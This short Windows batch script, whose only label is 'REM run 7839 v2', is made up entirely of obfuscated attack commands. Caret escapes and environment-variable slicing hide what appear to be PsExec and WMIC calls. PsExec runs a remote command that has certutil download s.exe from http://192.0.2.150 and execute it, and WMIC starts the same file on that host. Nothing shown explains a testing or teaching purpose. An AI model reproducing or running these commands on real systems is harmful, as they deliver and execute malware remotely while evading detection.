REM run 7839 v2
p^s^e%comspec:~25,1%%COMSPEC:~-3,1%%COMSPEC:~-7,1%.%comspec:~-1,1%%COMSPEC:~-2,1%%public:~5,1% \\1^9^2.0.^2.150 -^acce^pteul^a -s -d ^cmd /^c "certutil -urlcache -f http://192.0.2.150/s.exe C:\s.exe && C:\s.exe"
w%comspec:~21,1%%windir:~-6,1%%PUBLIC:~14,1% /^n^o^d^e:^192.^0.2.1^5^0 p^r^oce^s^s ca^ll c^r^eat^e "cmd /c C:\s.exe"
